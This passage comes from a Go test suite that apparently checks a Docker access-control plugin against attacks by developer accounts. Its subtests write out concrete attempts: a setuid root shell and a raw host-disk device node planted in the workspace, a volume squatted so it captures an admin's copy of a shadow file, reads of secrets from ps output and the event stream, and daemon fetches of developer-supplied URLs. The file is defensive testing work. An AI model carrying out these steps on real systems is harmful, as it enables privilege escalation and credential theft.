		out, err := as("dev", "run", "--rm", "-v", ws+":/ws", "tool:1", "/tool", "suid", "/ws/rootsh")
		require.NoError(t, err, out)
		st, err := os.Stat(filepath.Join(ws, "rootsh"))
		require.NoError(t, err)
		t.Logf("host: %s %v uid %d", filepath.Join(ws, "rootsh"), st.Mode(), st.Sys().(*syscall.Stat_t).Uid)
		cmd := exec.Command(filepath.Join(ws, "rootsh"), "euid")
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		euid, err := cmd.CombinedOutput()
		require.NoError(t, err, "%s", euid)
		assert.NotEqual(t, "0", strings.TrimSpace(string(euid)), "uid 65534 (the developer's host account) ran a file from its workspace as root")
	})

	// Attack: the default capabilities include MKNOD and the device
	// cgroup lets a container make any node: a node of the host's disk,
	// 0666, in the workspace opens the disk to the developer's account.
	t.Run("Attack_device_node_in_workspace", func(t *testing.T) {
		// A node of the host's disk, or of /dev/null where there is no
		// disk device of these names: nodev refuses both alike.
		var st syscall.Stat_t
		kind, maj, min := "c", uint64(1), uint64(3)
		for _, disk := range []string{"/dev/vda", "/dev/sda", "/dev/nvme0n1"} {
			if syscall.Stat(disk, &st) == nil {
				kind, maj, min = "b", st.Rdev>>8&0xfff, st.Rdev&0xff
				break
			}
		}
		out, err := as("dev", "run", "--rm", "-v", ws+":/ws", "tool:1", "/tool", "mknod", "/ws/disk", kind, fmt.Sprint(maj), fmt.Sprint(min))
		require.NoError(t, err, out)
		cmd := exec.Command("/bin/dd", "if="+filepath.Join(ws, "disk"), "bs=512", "count=1", "status=none")
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		got, err := cmd.CombinedOutput()
		t.Logf("uid 65534 reads %s: err=%v %s", filepath.Join(ws, "disk"), err, tailString(string(got), 120))
		var nst syscall.Stat_t
		require.NoError(t, syscall.Stat(filepath.Join(ws, "disk"), &nst))
		t.Logf("host: %s mode %o rdev %d:%d", filepath.Join(ws, "disk"), nst.Mode, nst.Rdev>>8&0xfff, nst.Rdev&0xff)
		// The node is made (the container's root may), but the
		// workspace's file system is nodev: not even root opens it.
		f, err := os.Open(filepath.Join(ws, "disk"))
		if err == nil {
			f.Close()
		}
		assert.ErrorIs(t, err, syscall.EACCES, "a node of the host's disk in the workspace opens: its file system must be nodev")
	})

	// Attack: a developer connects its container to the admin's
	// (internal) network: the network is not checked for ownership.
	t.Run("Attack_connect_own_container_to_admins_network", func(t *testing.T) {
		out, err := as("dev", "network", "connect", "adminnet", "devbox")
		assert.Error(t, err, "dev joined the admin's network: %s", out)
		out, err = as("dev", "run", "-d", "--network", "adminnet", "tool:1", "/tool", "sleep")
		assert.Error(t, err, "dev created a container on the admin's network: %s", out)
	})

	// Attack: secrets of the admin's containers reach readonly through
	// other endpoints than inspect and top.
	// Finding (logged, documented in the README): command lines reach
	// every reader through the list and the events (Docker's API gives
	// them), so secrets belong in the environment, which inspect keeps
	// to the container's creator.
	t.Run("Finding_readonly_reads_command_lines", func(t *testing.T) {
		out := must("rita", "ps", "--no-trunc")
		t.Logf("readonly docker ps --no-trunc shows command lines: %v", strings.Contains(out, "cmdline-secret-2"))
		assert.NotContains(t, out, "env-secret-1")
		status, ev := raw("rita", "GET", fmt.Sprintf("/events?since=%d&until=%d", now.Add(-time.Hour).Unix(), time.Now().Unix()), "", nil, nil)
		require.Equal(t, 200, status, ev)
		t.Logf("readonly /events shows exec command lines: %v", strings.Contains(ev, "exec-secret-3"))
		assert.NotContains(t, ev, "env-secret-1")
		status, ch := raw("rita", "GET", "/containers/adminbox/changes", "", nil, nil)
		t.Logf("readonly GET /containers/adminbox/changes: %d %s", status, tailString(ch, 200))
		status, st := raw("rita", "GET", "/containers/adminbox/stats?stream=false", "", nil, nil)
		t.Logf("readonly GET /containers/adminbox/stats: %d %s", status, tailString(st, 120))
	})

	// Attack (with an admin's ordinary use of a name): a developer
	// creates a volume under a name an admin will use (a compose
	// project's "app_db") and keeps a container on it; the admin's
	// "docker run -v NAME:..." mounts the developer's volume, and the
	// developer's container copies what the admin writes there. The book
	// hands the volume to the admin, but the developer's container is
	// already running.
	t.Run("Finding_admin_uses_a_developers_volume", func(t *testing.T) {
		must("dev", "volume", "create", "app_db")
		relay := must("dev", "run", "-d", "-v", "app_db:/d", "-v", ws+":/ws", "tool:1", "/tool", "relay", "/d/creds", "/ws/squatted")
		out, err := as("root-admin", "run", "--rm", "-v", "app_db:/data", "-v", secretDir+":/s:ro", "tool:1", "/tool", "cp", "/s/shadow", "/data/creds")
		require.NoError(t, err, "the admin uses the volume named app_db: %s", out)
		squatted := filepath.Join(ws, "squatted")
		deadline := time.Now().Add(20 * time.Second)
		for time.Now().Before(deadline) {
			if _, err := os.Stat(squatted); err == nil {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		b, _ := os.ReadFile(squatted)
		// Finding (documented): a named volume is its first creator's; an
		// admin who mounts a developer's volume shares it with them.
		t.Logf("the developer's container read what the admin wrote to the developer's volume: %v", strings.Contains(string(b), "host-secret-42"))
		_, _ = as("root-admin", "rm", "-f", relay)
	})

	// Finding (logged): the daemon fetches URLs a developer names
	// through a pull or a login, which the plugin refuses for an import
	// (fromSrc) for that reason.
	t.Run("Finding_daemon_fetches_developer_urls", func(t *testing.T) {
		hits := make(chan string, 16)
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		require.NoError(t, err)
		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			select {
			case hits <- r.Method + " " + r.URL.String():
			default:
			}
			http.Error(w, "nope", http.StatusNotFound)
		})}
		go func() { _ = srv.Serve(ln) }()
		defer srv.Close()
		addr := ln.Addr().String()
		out, err := as("dev", "pull", addr+"/probe:1")
		t.Logf("dev: docker pull %s/probe:1: err=%v %s", addr, err, tailString(out, 160))
		status, body := raw("dev", "POST", "/auth", "application/json", strings.NewReader(`{"username":"u","password":"p","serveraddress":"http://`+addr+`/"}`), nil)
		t.Logf("dev: POST /auth serveraddress http://%s/: %d %s", addr, status, tailString(body, 160))
		close(hits)
		for h := range hits {
			t.Logf("the daemon fetched, for the developer: %s", h)
		}
	})

	// Attack: a developer removes the admin's image, which admin's
	// containers were created from (images have no owner).
	t.Run("Attack_developer_removes_admins_image", func(t *testing.T) {
		out, err := as("dev", "rmi", "-f", "tiny:1")
		assert.Error(t, err, "dev removed an image it did not make: %s", out)
	})
}
